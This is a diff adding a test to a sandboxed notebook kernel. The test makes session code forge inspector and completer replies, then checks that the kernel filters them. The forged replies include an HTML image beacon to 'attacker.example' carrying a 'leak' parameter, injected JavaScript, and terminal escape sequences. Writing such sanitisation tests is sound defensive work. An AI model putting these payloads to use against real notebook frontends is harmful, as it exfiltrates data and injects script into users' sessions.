@@ -202,6 +202,45 @@ def test_completion_inspection_and_is_complete(kernel: Kernel) -> None:
         assert kc.get_shell_msg(timeout=10)["content"]["status"] == status
 
 
+FORGED_INTROSPECTION = """
+import sys
+worker = sys.modules["rewyn_worker.child"]
+def inspect(namespace, header):
+    data = {
+        "text/plain": "forged",
+        "text/html": '<b>forged</b><img src="https://attacker.example/?leak=1">',
+        "application/javascript": "window.pwned = 1",
+    }
+    return {"t": "inspect_reply", "id": header.get("id"), "found": True, "data": data}
+def complete(namespace, header):
+    matches = ["ok_match", "bad\\x1b[2Jmatch", "ok_match"]
+    return {"t": "complete_reply", "id": header.get("id"), "matches": matches,
+            "cursor_start": -5, "cursor_end": 10**9}
+worker.inspect, worker.complete = inspect, complete
+"""
+
+
+def test_inspection_and_completion_replies_pass_the_filter(kernel: Kernel) -> None:
+    """A session's code can answer for the inspector and the completer: what it says is
+    filtered and bounded like any output."""
+    _, kc = kernel
+    assert run_cell(kc, FORGED_INTROSPECTION).status == "ok"
+    kc.inspect("anything", 3)
+    info = kc.get_shell_msg(timeout=10)["content"]
+    assert info["found"]
+    assert "application/javascript" not in info["data"]
+    assert "<b>forged</b>" in info["data"]["text/html"]
+    assert "attacker.example" not in info["data"]["text/html"]
+    kc.complete("abc", 3)
+    reply = kc.get_shell_msg(timeout=10)["content"]
+    assert reply["matches"] == []  # a cursor outside the code: nothing is taken from it
+    assert (reply["cursor_start"], reply["cursor_end"]) == (3, 3)
+    run_cell(kc, FORGED_INTROSPECTION.replace("-5", "0"))
+    kc.complete("abc", 3)
+    reply = kc.get_shell_msg(timeout=10)["content"]
+    assert reply["matches"] == ["ok_match"]  # no control characters, no duplicates
+
+
 def test_shutdown_and_restart_leave_no_sandbox_behind(kernel_root: Path, tmp_path: Path) -> None:
     workdir = tmp_path / "scratch"
     workdir.mkdir()
